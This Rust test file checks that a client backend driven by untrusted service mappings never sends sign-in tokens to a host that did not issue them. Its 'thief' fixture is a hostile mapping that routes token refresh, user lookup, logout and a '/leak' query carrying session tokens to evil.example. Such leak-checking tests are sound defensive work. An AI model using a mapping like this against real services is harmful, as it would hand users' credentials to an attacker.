//! A mapping may come from anywhere: whatever it says, what somebody signed in with goes to the service and to who gave it.

use std::{
    cell::RefCell,
    future::Future,
    pin::pin,
    task::{Context, Waker},
};

use serde_json::{Value, json};

use super::{
    script::{Bench, NOW, now},
    signing_in::header,
};
use crate::{
    backend::{Backend as _, Rest as _, SignedIn, Turn},
    model::EventId,
    port::{LocalFuture, Request},
};

/// Signs in by a form at the service, and names a server of its own as one where people could sign in.
fn thief() -> Value {
    let read = json!({ "token": "/token", "refresh": "/refresh", "expires_in": "/ttl", "giver": "/giver" });
    let there = json!({ "base": "https://evil.example", "path": "/x", "method": "POST",
        "body": { "object": { "a": "/session/token", "b": "/session/refresh" } }, "read": { "user": "/id" } });
    json!({
        "base": "https://api.example", "origins": ["https://evil.example"],
        "auth": {
            "send": { "headers": [{ "name": "Authorization", "value": { "text": "Bearer {session.token}" } }] },
            "log_in": { "method": "POST", "path": "/login", "read": read },
            "oauth": { "authorize": "https://evil.example/a", "client_id": "x",
                "token": { "method": "POST", "path": "/t", "read": { "token": "/token" } } },
            "who": there, "refresh": there, "log_out": there,
        },
        "queries": {
            "communities": { "path": "/c" },
            "event": { "path": "/e", "items": "/event",
                "also": { "leak": { "base": "https://evil.example", "path": "/leak",
                    "query": [{ "name": "t", "value": "/item/token" }, { "name": "s", "value": "/session/token" }] } } },
        },
    })
}

fn says_a_secret(request: &Request) -> bool {
    format!("{request:?}").contains("SECRET")
}

/// Nothing of it went to the other server; gives how often that was asked.
fn nothing_leaked(requests: &[Request]) -> usize {
    let (own, others): (Vec<&Request>, Vec<&Request>) = requests
        .iter()
        .partition(|r| r.url.starts_with("https://api.example/"));
    assert!(!own.is_empty());
    assert!(others.iter().all(|r| !says_a_secret(r)), "{others:?}");
    others.len()
}

#[test]
fn a_token_goes_to_nobody_who_did_not_give_it() {
    let bench = Bench::of(&thief());
    let sign_in = bench.backend.sign_in().unwrap();
    bench
        .answer(200, &json!({ "token": "SECRET", "refresh": "SECRET", "ttl": 600, "giver": "https://evil.example" }))
        .answer(200, &json!({ "id": "1" }));
    assert!(matches!(now(sign_in.log_in(&[])), Ok(SignedIn::Yes(_))));
    // It comes near its end, and is renewed.
    bench.clock.0.set(NOW + 590);
    bench
        .answer(200, &json!({ "id": "1" }))
        .answer(200, &json!([]));
    assert!(now(bench.backend.communities(None)).is_ok());
    bench.answer(200, &json!({}));
    now(sign_in.log_out());
    let requests = bench.requests();
    assert_eq!(nothing_leaked(&requests), 3);
    assert!(
        requests
            .iter()
            .any(|r| header(r, "authorization") == Some("Bearer SECRET"))
    );
}

#[test]
fn what_a_service_said_goes_nowhere_else() {
    let bench = Bench::of(&thief());
    let sign_in = bench.backend.sign_in().unwrap();
    bench
        .answer(200, &json!({ "token": "SECRET" }))
        .answer(200, &json!({ "id": "1" }))
        .answer(200, &json!({ "event": { "token": "SECRET" } }))
        .answer(200, &json!({}));
    assert!(matches!(now(sign_in.log_in(&[])), Ok(SignedIn::Yes(_))));
    let _unreadable = now(bench.backend.event(&EventId::from("e")));
    assert_eq!(nothing_leaked(&bench.requests()), 2);
}

thread_local! {
    static GOES_ON: RefCell<Vec<LocalFuture<'static, ()>>> = const { RefCell::new(Vec::new()) };
}

#[test]
fn a_renewal_goes_on_when_the_page_that_wanted_it_is_left() {
    let mut mapping = thief();
    mapping["auth"]["refresh"] =
        json!({ "path": "/renew", "method": "POST", "read": { "token": "/token" } });
    mapping["auth"].as_object_mut().unwrap().remove("who");
    let mut bench = Bench::of(&mapping);
    bench.backend = bench
        .backend
        .going_on_by(|task| GOES_ON.with_borrow_mut(|all| all.push(task)));
    let kept = std::rc::Rc::new(RefCell::new(String::new()));
    {
        let sign_in = bench.backend.sign_in().unwrap();
        bench.answer(200, &json!({ "token": "first", "ttl": 600 }));
        assert!(matches!(now(sign_in.log_in(&[])), Ok(SignedIn::Yes(_))));
        let keeps = kept.clone();
        sign_in.watch(std::rc::Rc::new(move |turn| match turn {
            Turn::Due(session) => Some(session.clone()),
            Turn::New(session) => {
                *keeps.borrow_mut() = session.to_text();
                None
            }
            Turn::Ended => None,
        }));
    }
    bench.clock.0.set(NOW + 590);
    {
        let mut asked = pin!(bench.backend.communities(None));
        let mut context = Context::from_waker(Waker::noop());
        assert!(asked.as_mut().poll(&mut context).is_pending());
        // Here the page is left.
    }
    bench.answer(200, &json!({ "token": "second" }));
    for task in GOES_ON.take() {
        now(task);
    }
    assert!(kept.borrow().contains("second"), "{}", kept.borrow());
    bench.answer(200, &json!([]));
    assert!(now(bench.backend.communities(None)).is_ok());
    let last = bench.requests().pop().unwrap();
    assert_eq!(header(&last, "authorization"), Some("Bearer second"));
}

#[test]
fn an_end_that_is_no_number_is_no_end() {
    let bench = Bench::of(&thief());
    let sign_in = bench.backend.sign_in().unwrap();
    bench
        .answer(200, &json!({ "token": "t", "ttl": "1h" }))
        .answer(200, &json!({ "id": "1" }))
        .answer(200, &json!([]));
    assert!(matches!(now(sign_in.log_in(&[])), Ok(SignedIn::Yes(_))));
    assert!(now(bench.backend.communities(None)).is_ok());
    assert_eq!(bench.requests().len(), 3, "nothing is renewed");
}
